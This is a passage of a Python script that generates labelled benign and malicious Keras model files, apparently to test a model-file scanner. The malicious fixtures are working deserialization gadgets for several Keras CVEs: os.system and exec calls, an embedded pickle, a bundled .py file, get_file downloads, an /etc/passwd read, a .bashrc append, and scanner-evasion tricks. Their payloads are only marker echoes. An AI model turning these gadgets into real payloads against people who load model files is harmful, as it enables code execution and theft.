    write_keras("malicious/lambda_object_activation.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), dense], [None, 4]), small_w)
    add("malicious/lambda_object_activation.keras", "malicious", "__lambda__ object as activation", "critical",
        "keras/lambda", "serialization_lib's generic {class_name: __lambda__, config: {value: func_dump}} used as a Dense activation, not a Lambda layer")

    # CVE-2025-1550: a Functional "layer" that is os.system, called with the inbound node's args.
    layers = [functional_entry(k3_input("inputs", [None, 4]), []),
              {"module": "os", "class_name": "function", "config": "system", "registered_name": None,
               "name": "system", "inbound_nodes": [node("echo hallmark-marker")]},
              functional_entry(k3_dense("dense", 2, "linear", [None, 4]),
                               [node(keras_tensor([None, 4], ["inputs", 0, 0]))])]
    write_keras("malicious/cve_2025_1550_os_system.keras",
                k3_functional("functional", layers, [["inputs", 0, 0]], [["dense", 0, 0]]), small_w)
    add("malicious/cve_2025_1550_os_system.keras", "malicious", "module os / system reference", "critical",
        "keras/module-reference", "CVE-2025-1550: Keras < 3.9 imports config module 'os', takes 'system' and Functional calls it with the node args, despite safe_mode")

    # CVE-2025-8747: keras.utils.get_file reached from the config.
    layers = [functional_entry(k3_input("inputs", [None, 4]), []),
              {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": None,
               "name": "get_file", "inbound_nodes": [node(**{
                   "fname": "hallmark-marker.txt", "origin": "http://127.0.0.1:9/hallmark-marker.txt",
                   "cache_dir": "/tmp/hallmark-marker", "cache_subdir": "", "force_download": True})]},
              functional_entry(k3_dense("dense", 2, "linear", [None, 4]),
                               [node(keras_tensor([None, 4], ["inputs", 0, 0]))])]
    write_keras("malicious/cve_2025_8747_get_file.keras",
                k3_functional("functional", layers, [["inputs", 0, 0]], [["dense", 0, 0]]), small_w)
    add("malicious/cve_2025_8747_get_file.keras", "malicious", "keras.utils.get_file gadget", "critical",
        "keras/get-file", "CVE-2025-8747: a public Keras function reachable from the config downloads a URL to a chosen directory (inert: 127.0.0.1:9)")

    # CVE-2025-9906: enable_unsafe_deserialization, then a Lambda.
    layers = [functional_entry(k3_input("inputs", [None, 4]), []),
              {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
               "registered_name": None, "name": "unsafe", "inbound_nodes": [node()]},
              functional_entry(k3_lambda_layer("lambda", MARKER_LAMBDA, [None, 4]),
                               [node(keras_tensor([None, 4], ["inputs", 0, 0]))])]
    write_keras("malicious/cve_2025_9906_enable_unsafe.keras",
                k3_functional("functional", layers, [["inputs", 0, 0]], [["lambda", 0, 0]]), small_w)
    add("malicious/cve_2025_9906_enable_unsafe.keras", "malicious", "enable_unsafe_deserialization gadget",
        "critical", "enable-unsafe-deserialization",
        "CVE-2025-9906: the config switches safe_mode off, so the Lambda that follows runs even under safe_mode=True")

    # CVE-2025-49655: TorchModuleWrapper with embedded torch.save (here a pickle calling os.system).
    payload = base64.b64encode(pickle.dumps(Marker(), protocol=2)).decode("ascii")
    tmw = k3_layer("TorchModuleWrapper", {"name": "torch_module_wrapper", "trainable": True, "dtype": policy(),
                                          "module": payload, "output_shape": None}, [None, 4])
    write_keras("malicious/cve_2025_49655_torch_wrapper.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), tmw], [None, 4]), small_w)
    add("malicious/cve_2025_49655_torch_wrapper.keras", "malicious", "TorchModuleWrapper embedded pickle",
        "critical", "keras/torch-module-wrapper",
        "CVE-2025-49655: TorchModuleWrapper.from_config torch.loads base64 bytes from config.module; the bytes are a protocol-2 pickle of posix.system('echo hallmark-marker')")

    # Custom object from __main__ (Keras 3.0-3.x wrote module __main__ for unregistered classes).
    custom = k3_layer("ScaledDense", {"name": "scaled_dense", "trainable": True, "dtype": policy(), "units": 2,
                                      "scale": 0.5}, [None, 4], module="__main__", registered_name="ScaledDense")
    write_keras("malicious/custom_object_main.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), custom], [None, 4]), small_w)
    add("malicious/custom_object_main.keras", "malicious", "custom class from __main__", "medium",
        "keras/custom-object", "an unregistered custom layer saved from a script: loading needs the author's code (custom_objects)")

    # A .keras archive with a .py member.
    write_keras("malicious/python_member.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), k3_dense("dense", 2, "linear", [None, 4])], [None, 4]), small_w,
        extra_members=[("custom_layers.py", b"import os\nos.system('echo hallmark-marker')\n")])
    add("malicious/python_member.keras", "malicious", ".py member in .keras", "high", "keras/archive-code",
        "Keras never writes code into the archive; a loader script or trust_remote_code-style tooling may import it")

    # Malformed config.json (truncated after a Lambda layer starts).
    good = json.dumps(k3_sequential("sequential", [k3_input("input_layer", [None, 4]),
                                                   k3_lambda_layer("lambda", MARKER_LAMBDA, [None, 4])], [None, 4]))
    write_keras("malicious/malformed_config.keras", None, small_w, config_bytes=good[:len(good) * 2 // 3].encode())
    add("malicious/malformed_config.keras", "malicious", "truncated config.json", "high", "keras/malformed",
        "config.json cut in the middle of a Lambda payload: must be reported unscannable (fail closed), never clean")

    # tf.keras .h5 whose training_config names a loss from a non-Keras module.
    write_h5("malicious/custom_loss_module_tf215.h5", k2_sequential("sequential", [
        k2_input("dense_input", [None, 4]), k2_dense("dense", 2, "linear", [None, 4])]),
        k2_training_config(loss={"module": "hallmark_marker_losses.focal", "class_name": "function",
                                 "config": "focal_loss", "registered_name": "function"}),
        [("dense", [("dense/kernel:0", (4, 2)), ("dense/bias:0", (2,))])], 23)
    add("malicious/custom_loss_module_tf215.h5", "malicious", "training_config loss from a foreign module", "high",
        "keras/module-reference", "compile() on load resolves the loss by importing module hallmark_marker_losses.focal (any module in tf_keras / Keras < 3.9)")

    # Duplicate class_name: Python keeps the last ("Lambda"), a first-wins scanner sees "Dense".
    lam = k3_lambda_layer("lambda", MARKER_LAMBDA, [None, 4])
    body = json.dumps(lam["config"])
    layer_json = ('{"module": "keras.layers", "class_name": "Dense", "config": ' + body +
                  ', "registered_name": null, "class_name": "Lambda"}')
    seq = json.dumps(k3_sequential("sequential", [k3_input("input_layer", [None, 4]), "@@LAYER@@"], [None, 4]))
    cfg = seq.replace('"@@LAYER@@"', layer_json).encode()
    write_keras("malicious/duplicate_key_lambda.keras", None, small_w, config_bytes=cfg)
    add("malicious/duplicate_key_lambda.keras", "malicious", "duplicate class_name key", "critical", "keras/lambda",
        "class_name appears twice: Python's json keeps the last (Lambda); parsers keeping the first see a Dense layer")

    # UTF-16 config.json: json.loads(bytes) decodes it, UTF-8-only scanners skip it.
    cfg = json.dumps(k3_sequential("sequential", [k3_input("input_layer", [None, 4]),
                                                  k3_lambda_layer("lambda", MARKER_LAMBDA, [None, 4])], [None, 4]))
    write_keras("malicious/utf16_config_lambda.keras", None, small_w, config_bytes=cfg.encode("utf-16"))
    add("malicious/utf16_config_lambda.keras", "malicious", "UTF-16 config.json", "critical", "keras/lambda",
        "json.loads detects UTF-16 by its BOM; Keras loads the Lambda, a UTF-8-only parser fails or skips")

    # StringLookup whose vocabulary is a path (GHSA-qg93-c7p6-gg7f: file read at load with safe_mode=True).
    lookup = k3_layer("StringLookup", {"name": "string_lookup", "trainable": False, "dtype": {
        "module": "keras", "class_name": "DTypePolicy", "config": {"name": "int64"}, "registered_name": None},
        "invert": False, "max_tokens": None, "num_oov_indices": 1, "oov_token": "[UNK]", "mask_token": None,
        "output_mode": "int", "sparse": False, "pad_to_max_tokens": False, "vocabulary": "/etc/passwd",
        "idf_weights": None, "encoding": "utf-8"})
    write_keras("malicious/stringlookup_vocabulary_path.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 1], "string"), lookup], [None, 1]), small_w)
    add("malicious/stringlookup_vocabulary_path.keras", "malicious", "vocabulary file path", "medium",
        "keras/file-reference", "StringLookup(vocabulary='/etc/passwd') reads the file at load time even with safe_mode=True (GHSA-qg93-c7p6-gg7f)")

    # builtins.exec as a Keras 3 function reference.
    dense = k3_dense("dense", 2, None, [None, 4])
    dense["config"]["activation"] = {"module": "builtins", "class_name": "function", "config": "exec",
                                     "registered_name": "function"}
    write_keras("malicious/builtins_exec_activation.keras", k3_sequential("sequential", [
        k3_input("input_layer", [None, 4]), dense], [None, 4]), small_w)
    add("malicious/builtins_exec_activation.keras", "malicious", "builtins.exec function reference", "critical",
        "keras/module-reference", "the benign-looking builtins/function shape Keras uses for losses, naming exec instead: Keras < 3.9 and tf_keras fall back to vars(builtins)")

    # tf.keras TFOpLambda naming tf.io.write_file.
    tfw = {"class_name": "Functional", "config": {"name": "model", "trainable": True, "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None], "dtype": "string", "sparse": False,
                                                "ragged": False, "name": "x"}, "name": "x", "inbound_nodes": []},
        {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                                                "function": "io.write_file"}, "name": "tf.io.write_file",
         "inbound_nodes": [["x", 0, 0, {"filename": "/tmp/hallmark-marker", "name": None}]]}],
        "input_layers": [["x", 0, 0]], "output_layers": [["tf.io.write_file", 0, 0]]}}
    write_h5("malicious/tfoplambda_write_file_tf215.h5", tfw, None, [("x", []), ("tf.io.write_file", [])], 24)
    add("malicious/tfoplambda_write_file_tf215.h5", "malicious", "TFOpLambda tf.io.write_file", "high", "keras/tf-op",
        "tf.keras stores TensorFlow calls as TFOpLambda symbol names; tf.io.write_file writes /tmp/hallmark-marker whenever the model runs")

    def functional_with(entry):
        return k3_functional("functional", [
            functional_entry(k3_input("inputs", [None, 4]), []), entry,
            functional_entry(k3_dense("dense", 2, "linear", [None, 4]),
                             [node(keras_tensor([None, 4], ["inputs", 0, 0]))])], [["inputs", 0, 0]], [["dense", 0, 0]])

    # Keras 3.0-3.8: class_name missing from the module, so vars(mod).get(registered_name) -> get_file.
    write_keras("malicious/registered_name_get_file.keras", functional_with(
        {"module": "keras.src.utils", "class_name": "Dense", "config": {"name": "dense_0", "units": 2},
         "registered_name": "get_file", "name": "dense_0", "inbound_nodes": [node(**{
             "fname": "hallmark-marker.txt", "origin": "http://127.0.0.1:9/hallmark-marker.txt",
             "cache_dir": "/tmp/hallmark-marker", "cache_subdir": "", "force_download": True})]}), small_w)
    add("malicious/registered_name_get_file.keras", "malicious", "registered_name fallback to get_file", "critical",
        "keras/get-file", "Keras 3.0-3.8 _retrieve_class_or_fn falls back to vars(module).get(registered_name) when class_name "
        "(here Dense) is not in keras.src.utils, returning get_file, which Functional calls (CVE-2025-8747 variant)")

    # tf.print with a file:// output_stream appends text to any file.
    for rel, mod, fn in (("malicious/tf_print_file_append.keras", "tensorflow", "print"),
                         ("malicious/logging_ops_print_v2_file.keras", "tensorflow.python.ops.logging_ops", "print_v2")):
        write_keras(rel, functional_with(
            {"module": mod, "class_name": "function", "config": fn, "registered_name": "function", "name": "print_0",
             "inbound_nodes": [node("echo hallmark-marker", output_stream="file:///tmp/hallmark-marker/.bashrc")]}),
            small_w)
        add(rel, "malicious", "tf print to a file:// stream", "high", "keras/module-reference",
            "a TensorFlow print function (" + mod + "." + fn + ") reached as a module reference and called by Functional "
            "with output_stream file://...: appends chosen text to any file (Keras 3.0-3.8, tf_keras)")

    # global_state.set_global_attribute("safe_mode_saving", False) == enable_unsafe_deserialization.
    write_keras("malicious/global_state_safe_mode_off.keras", functional_with(
        {"module": "keras.src.backend.common.global_state", "class_name": "function", "config": "set_global_attribute",
         "registered_name": "function", "name": "gs_0", "inbound_nodes": [node("safe_mode_saving", False)]}), small_w)
    add("malicious/global_state_safe_mode_off.keras", "malicious", "global_state safe_mode_saving off", "critical",
        "keras/enable-unsafe-deserialization", "keras.src.backend.common.global_state.set_global_attribute('safe_mode_saving', False) "
        "switches safe_mode off like enable_unsafe_deserialization (CVE-2025-9906 variant, Keras 3.0-3.10)")


def main():
    for d in ("benign", "malicious", "configs"):
        os.makedirs(os.path.join(ROOT, d), exist_ok=True)
    benign()
    malicious()
    with open(os.path.join(ROOT, "manifest.json"), "w") as fh:
        fh.write("[\n" + ",\n".join("  " + json.dumps(m) for m in MANIFEST) + "\n]\n")


if __name__ == "__main__":
    if os.environ.get("PYTHONHASHSEED") != "0":
        os.environ["PYTHONHASHSEED"] = "0"
        os.execv(sys.executable, [sys.executable] + sys.argv)
    main()
